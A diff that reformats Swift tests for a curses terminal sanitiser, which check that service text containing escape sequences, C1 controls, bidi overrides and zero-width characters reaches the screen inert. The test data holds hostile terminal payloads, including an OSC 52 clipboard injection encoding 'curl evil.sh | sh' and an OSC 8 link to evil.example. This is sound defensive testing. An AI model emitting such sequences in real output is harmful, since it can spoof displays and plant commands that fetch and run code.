@@ -12,16 +12,25 @@ extension CursesTests {
     /// remainder such as "]52;" is allowed, it is how the sanitiser shows the attempt.
     static let hostileTexts: [(name: String, text: String, forbidden: [[UInt8]])] = [
         ("clear screen", "Reader\u{1B}[2J\u{1B}[H", [Array("\u{1B}[2J\u{1B}[H".utf8)]),
-        ("cursor moves", "ok\u{1B}[10;1Hforged row\u{1B}[A\u{1B}[5D", [Array("\u{1B}[10;1H".utf8), Array("\u{1B}[A".utf8)]),
+        (
+            "cursor moves", "ok\u{1B}[10;1Hforged row\u{1B}[A\u{1B}[5D",
+            [Array("\u{1B}[10;1H".utf8), Array("\u{1B}[A".utf8)]
+        ),
         ("window title (OSC 0)", "x\u{1B}]0;pwned\u{7}y", [Array("\u{1B}]".utf8), [0x07]]),
         ("clipboard (OSC 52)", "x\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}y", [Array("\u{1B}]".utf8), [0x07]]),
-        ("hyperlink (OSC 8)", "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\", [Array("\u{1B}]".utf8), Array("\u{1B}\\".utf8)]),
+        (
+            "hyperlink (OSC 8)", "\u{1B}]8;;https://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\",
+            [Array("\u{1B}]".utf8), Array("\u{1B}\\".utf8)]
+        ),
         ("bell", "ding\u{7}\u{7}", [[0x07]]),
         ("C1 CSI", "x\u{9B}2Jy\u{9B}31m", [[0x9B], [0xC2, 0x9B]]),
         ("C1 OSC and ST", "x\u{9D}0;t\u{9C}", [[0x9D], [0xC2, 0x9D], [0xC2, 0x9C]]),
         ("bidi override", "admin\u{202E}txt.exe", [Array("\u{202E}".utf8)]),
         ("bidi isolate", "a\u{2067}b\u{2069}", [Array("\u{2067}".utf8), Array("\u{2069}".utf8)]),
-        ("zero width", "Glo\u{200B}bal\u{200D}Admin\u{FEFF}", [Array("\u{200B}".utf8), Array("\u{200D}".utf8), Array("\u{FEFF}".utf8)]),
+        (
+            "zero width", "Glo\u{200B}bal\u{200D}Admin\u{FEFF}",
+            [Array("\u{200B}".utf8), Array("\u{200D}".utf8), Array("\u{FEFF}".utf8)]
+        ),
         ("DCS", "x\u{1B}P1$r0m\u{1B}\\", [Array("\u{1B}P".utf8)]),
         ("newline", "one\ntwo\rthree", [Array("one\ntwo".utf8), Array("two\rthree".utf8)]),
     ]
@@ -37,8 +46,9 @@ extension CursesTests {
         #expect(terminal.backend.row(1).hasPrefix("Global Reader   eligible   8h"))
     }
 
-    @Test("service text with escape sequences, C1 controls, bidi and zero-width characters is written inert",
-          arguments: Array(hostileTexts.indices))
+    @Test(
+        "service text with escape sequences, C1 controls, bidi and zero-width characters is written inert",
+        arguments: Array(hostileTexts.indices))
     func hostileServiceText(index: Int) throws {
         let hostile = Self.hostileTexts[index]
         let terminal = try CursesTerminal()
@@ -51,8 +61,9 @@ extension CursesTests {
         let bytes = try terminal.pty.output()
         for sequence in hostile.forbidden {
             let inBaseline = baseline.occurrences(of: sequence)
-            #expect(bytes.occurrences(of: sequence) <= inBaseline,
-                    "\(hostile.name): \(sequence.visible) reached the terminal: \(bytes.visible)")
+            #expect(
+                bytes.occurrences(of: sequence) <= inBaseline,
+                "\(hostile.name): \(sequence.visible) reached the terminal: \(bytes.visible)")
         }
         // Shown, made visible: the sanitiser's pictures are on the screen in its place.
         let shown = Sanitizer.sanitize(hostile.text)
@@ -62,8 +73,9 @@ extension CursesTests {
         #expect(terminal.backend.row(2).hasPrefix("Ticket "))
     }
 
-    @Test("cells that bypass the sanitiser still reach the terminal inert (defence in depth)",
-          arguments: Array(hostileTexts.indices))
+    @Test(
+        "cells that bypass the sanitiser still reach the terminal inert (defence in depth)",
+        arguments: Array(hostileTexts.indices))
     func unsanitisedCellsAreInert(index: Int) throws {
         let hostile = Self.hostileTexts[index]
         let terminal = try CursesTerminal()
@@ -81,14 +93,18 @@ extension CursesTests {
         terminal.backend.draw(screen)
         let bytes = try terminal.pty.output()
         for sequence in hostile.forbidden {
-            #expect(bytes.occurrences(of: sequence) <= baseline.occurrences(of: sequence),
-                    "\(hostile.name): \(sequence.visible) reached the terminal: \(bytes.visible)")
+            #expect(
+                bytes.occurrences(of: sequence) <= baseline.occurrences(of: sequence),
+                "\(hostile.name): \(sequence.visible) reached the terminal: \(bytes.visible)")
         }
         #expect(terminal.backend.row(0).hasPrefix("Name "))
         #expect(terminal.backend.row(2).hasPrefix("Ticket "))
         // Each cell that would have acted shows "?" in its place.
-        for (x, scalar) in hostile.text.unicodeScalars.enumerated() where x > 0 && x < 80 && !Sanitizer.isClean(String(scalar)) {
-            #expect(Self.text(terminal, x: x, y: 1).first == "?", "\(hostile.name): column \(x) holds \(Self.text(terminal, x: x, y: 1).prefix(1))")
+        for (x, scalar) in hostile.text.unicodeScalars.enumerated()
+        where x > 0 && x < 80 && !Sanitizer.isClean(String(scalar)) {
+            #expect(
+                Self.text(terminal, x: x, y: 1).first == "?",
+                "\(hostile.name): column \(x) holds \(Self.text(terminal, x: x, y: 1).prefix(1))")
         }
     }
 
@@ -113,7 +129,9 @@ extension CursesTests {
         }
         #expect(Self.text(terminal, x: 18, y: 0).hasPrefix("end"))
         for row in names.indices {
-            #expect(Self.text(terminal, x: 12, y: row + 2).hasPrefix("|active"), "row \(row): \(terminal.backend.row(row + 2))")
+            #expect(
+                Self.text(terminal, x: 12, y: row + 2).hasPrefix("|active"),
+                "row \(row): \(terminal.backend.row(row + 2))")
         }
     }
 
@@ -143,7 +161,8 @@ extension CursesTests {
         let second = try terminal.pty.output()
         #expect(second.contains("8"))
         #expect(!second.contains("Global Reader"))
-        #expect(second.count * 10 < first.count, "first \(first.count) bytes, second \(second.count): \(second.visible)")
+        #expect(
+            second.count * 10 < first.count, "first \(first.count) bytes, second \(second.count): \(second.visible)")
         #expect(second.count < 40, "a one-cell change wrote \(second.count) bytes: \(second.visible)")
         terminal.backend.draw(screen)
         let third = try terminal.pty.output()
@@ -161,9 +180,13 @@ extension CursesTests {
         kill(getpid(), SIGWINCH)
         #expect(terminal.next() == .event(.resize))
         terminal.backend.invalidate()
-        terminal.backend.draw(Self.textScreen(["Global Reader", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "",
-                                               "", "", "", "", "", "", "", "", "", "", "", "", "", "last row"],
-                                              width: 100, height: 30))
+        terminal.backend.draw(
+            Self.textScreen(
+                [
+                    "Global Reader", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "",
+                    "", "", "", "", "", "", "", "", "", "", "", "", "", "last row",
+                ],
+                width: 100, height: 30))
         let bytes = try terminal.pty.output()
         #expect(bytes.contains("Global Reader"), "the unchanged text was not redrawn after the resize")
         #expect(bytes.contains("last row"))
@@ -175,7 +198,8 @@ extension CursesTests {
         var buffer = [wchar_t](repeating: 0, count: 256)
         let window = cnc_stdscr()
         _ = mvwinnwstr(window, Int32(y), Int32(x), &buffer, 255)
-        return String(String.UnicodeScalarView(buffer.prefix { $0 != 0 }.compactMap { Unicode.Scalar(UInt32(bitPattern: $0)) }))
+        return String(
+            String.UnicodeScalarView(buffer.prefix { $0 != 0 }.compactMap { Unicode.Scalar(UInt32(bitPattern: $0)) }))
     }
 }
 
